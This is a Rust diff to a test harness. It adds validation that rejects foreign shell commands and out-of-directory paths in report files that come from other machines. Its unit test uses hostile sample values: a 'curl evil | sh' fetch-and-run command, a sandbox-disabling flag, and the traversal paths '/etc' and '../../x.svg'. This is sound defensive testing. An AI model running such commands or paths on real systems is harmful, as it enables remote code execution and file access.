@@ -3,7 +3,7 @@
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::fs;
-use std::path::Path;
+use std::path::{Component, Path};
 
 use anyhow::{Context, Result, bail, ensure};
 use schemars::JsonSchema;
@@ -13,6 +13,7 @@ use crate::analysis::compare::{Change, Comparison, Fate, NamedChange, Pair, Pair
 use crate::analysis::metrics::{Metric, Subject};
 use crate::exit_code::ExitCode;
 use crate::gate::expect::{Finding, FindingKind};
+use crate::gate::remedy::is_command;
 
 /// Name of a suite's result in the directory of its reports: what `harness merge` joins.
 pub const REPORT: &str = "report.json";
@@ -290,6 +291,18 @@ impl CaseResult {
         finding.place.as_ref().or(self.place.as_ref())
     }
 
+    /// Refuses what is to be pasted into a shell, or opened, and is none of ours: reports come from other machines.
+    fn check(&self) -> Result<()> {
+        for command in [Some(&self.repeat), self.accept.as_ref()].into_iter().flatten() {
+            ensure!(command.is_empty() || is_command(command), "its command is none of harness's: {command:?}");
+        }
+        for path in [&self.profile, &self.picture].into_iter().flatten() {
+            let is_below = Path::new(path).components().all(|part| matches!(part, Component::Normal(_)));
+            ensure!(is_below, "its profile lies outside of the reports: {path:?}");
+        }
+        Ok(())
+    }
+
     /// Makes the exit code this one, unless it is a more urgent one already.
     pub fn raise(&mut self, code: ExitCode) {
         self.exit_code = self.code().min(code).status();
@@ -404,7 +417,11 @@ impl SuiteResult {
             "it is of version {} and this harness reads version {VERSION}; run it again with this harness",
             value["version"]
         );
-        serde_json::from_value(value).context("it is damaged")
+        let result: SuiteResult = serde_json::from_value(value).context("it is damaged")?;
+        for case in &result.cases {
+            case.check().with_context(|| format!("{:?} is damaged", case.name))?;
+        }
+        Ok(result)
     }
 
     /// Reads the result in a directory of reports, or a file.
@@ -570,6 +587,27 @@ mod tests {
         }
         assert!(error(vec![("1".to_owned(), huge)]).contains("more than 2^64"));
         assert!(SuiteResult::from_json("{}").is_err() && SuiteResult::from_json("[").is_err());
+    }
+
+    #[test]
+    fn a_report_of_somebody_elses_says_no_command_and_no_path_but_ours() {
+        let read = |change: fn(&mut CaseResult)| {
+            let mut result = result(&[("a", ExitCode::Limit)]);
+            change(&mut result.cases[0]);
+            SuiteResult::from_json(&result.to_json().unwrap()).map(drop).map_err(|error| format!("{error:#}"))
+        };
+        assert_eq!(read(|case| case.repeat = "harness test -f 'name(a)'".to_owned()), Ok(()));
+        assert_eq!(read(|case| case.profile = Some("a.profile".to_owned())), Ok(()));
+        for (change, what) in [
+            (|case: &mut CaseResult| case.repeat = "curl evil | sh".to_owned(), "none of harness's"),
+            (|case| case.accept = Some("harness test --sandbox off".to_owned()), "none of harness's"),
+            (|case| case.profile = Some("/etc".to_owned()), "outside of the reports"),
+            (|case| case.picture = Some("../../x.svg".to_owned()), "outside of the reports"),
+        ] as [(fn(&mut CaseResult), &str); 4]
+        {
+            let error = read(change).unwrap_err();
+            assert!(error.contains("\"a\" is damaged") && error.contains(what), "{error}");
+        }
     }
 
     #[test]
